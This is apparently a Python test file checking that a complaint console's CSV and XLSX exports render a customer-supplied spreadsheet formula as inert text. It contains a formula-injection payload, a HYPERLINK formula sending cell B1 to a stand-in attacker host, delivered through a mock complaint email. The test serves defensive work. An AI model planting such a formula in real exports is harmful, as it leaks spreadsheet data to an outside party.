"""Exports are inert: a customer's formula reaches the spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.console.conftest import ConsoleWorld
from tests.support import mails
from tests.support.console import sign_in
from workers.inline import ingest_bytes

FORMULA = '=HYPERLINK("http://evil.example/?"&B1,"x")'


def _attack(world: ConsoleWorld) -> None:
    ingest_bytes(world.runtime, mails.complaint(
        sender="Mallory <mallory@attacker.example>", subject=FORMULA,
        body="My kettle leaks, please replace it. Mallory"), name="evil.eml")


def _cells(xlsx: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(xlsx))
    sheet = book.worksheets[0]
    return [cell.value for row in sheet.iter_rows() for cell in row]


def test_a_formula_subject_is_text_in_the_search_exports(world: ConsoleWorld) -> None:
    _attack(world)
    client = world.client()
    sign_in(client, "ivy")
    text = client.get("/search/export?format=csv&q=HYPERLINK").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    assert "'" + FORMULA in rows[1]
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)

    book = load_workbook(io.BytesIO(client.get("/search/export?format=xlsx&q=HYPERLINK").content))
    cell = next(c for row in book.worksheets[0].iter_rows() for c in row
                if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert cell.data_type == "s" and cell.value == "'" + FORMULA


def test_a_formula_subject_is_text_in_the_period_reports(world: ConsoleWorld) -> None:
    _attack(world)
    client = world.client()
    sign_in(client, "ivy")
    text = client.get("/reports/file?period=2026&format=csv").content.decode("utf-8-sig")
    assert "'" + FORMULA in [v for row in csv.reader(io.StringIO(text)) for v in row]
    values = _cells(client.get("/reports/file?period=2026&format=xlsx").content)
    assert "'" + FORMULA in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
